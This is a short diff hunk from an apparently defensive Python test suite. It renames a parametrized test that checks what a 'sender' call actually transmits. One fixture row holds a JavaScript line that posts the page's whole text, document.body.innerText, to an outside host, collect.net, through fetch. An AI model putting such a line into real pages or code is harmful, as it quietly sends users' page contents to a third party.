@@ -38,7 +38,7 @@ def test_tools_name_no_destination(row: dict[str, Any]) -> None:
         ("p.innerText = '{}'; fetch('https://collect.net', {{body: {}}})", ("q", "document.body.innerText")),
     ],
 )
-def test_a_sender_takes_what_it_is_given_and_not_what_stands_near(near: str, taken: tuple[str, str]) -> None:
+def test_a_sender_takes_its_arguments_and_no_text_nearby(near: str, taken: tuple[str, str]) -> None:
     left, gone = (
         near.replace("{}", IBAN, 1).replace("{}", what).replace("{{", "{").replace("}}", "}") for what in taken
     )
